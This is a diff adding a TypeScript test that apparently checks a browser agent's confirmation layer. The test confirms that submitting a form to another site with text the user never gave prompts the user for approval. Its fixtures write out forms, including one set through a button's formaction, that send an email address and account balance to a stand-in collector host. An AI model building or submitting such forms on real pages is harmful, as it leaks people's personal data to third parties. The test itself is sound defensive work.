@@ -104,6 +104,23 @@ describe("a page press judged by what it does, the page script reading the DOM",
     assert.match(String(asks(wrapped, "#a", "click", { said: { said: "show my orders" } })?.title), /^Follow the link/);
   });
 
+  it("a form sent to another site with text the person did not give asks; their words or the same site do not", () => {
+    const said = { said: "search for red shoes" };
+    const form = (action: string, value: string, button = "<button id=go>Search</button>") =>
+      `<form action="${action}"><input name="q" value="${value}">${button}</form>`;
+    const elsewhere = form("https://collect.example/in", "ann@example.com balance 2300");
+    assert.deepEqual(look(elsewhere, "#go", "click").form?.action, "https://collect.example/in");
+    const asked = asks(elsewhere, "#go", "click", { said });
+    assert.equal(asked?.title, 'Send "ann@example.com balance 2300" to collect.example by clicking "Search"?');
+    assert.match(String(asked?.detail), /It sends the form to https:\/\/collect\.example\/in; you did not say ann, /);
+    assert.equal(asks(form("https://www.google.com/search", "red shoes"), "#go", "click", { said }), undefined);
+    assert.equal(asks(form("/search", "ann@example.com balance"), "#go", "click", { said }), undefined, "same site");
+    const typed = { said, typed: "ann@example.com" };
+    assert.match(String(asks(form("https://collect.example/in", ""), "[name=q]", "enter", typed)?.title), /^Send /);
+    const formaction = '<button id=go formaction="https://collect.example/in">Search</button>';
+    assert.match(String(asks(form("/search", "ann balance", formaction), "#go", "click", { said })?.title), /^Send /);
+  });
+
   it("a shadow root's button in a password form asks; a same-origin frame's focused field is the one judged", () => {
     const html = '<form><input type="password" name="pw"><x-pay id="host"></x-pay></form>';
     const shadow = (doc: Parameters<NonNullable<Parameters<typeof look>[3]>>[0]) => {
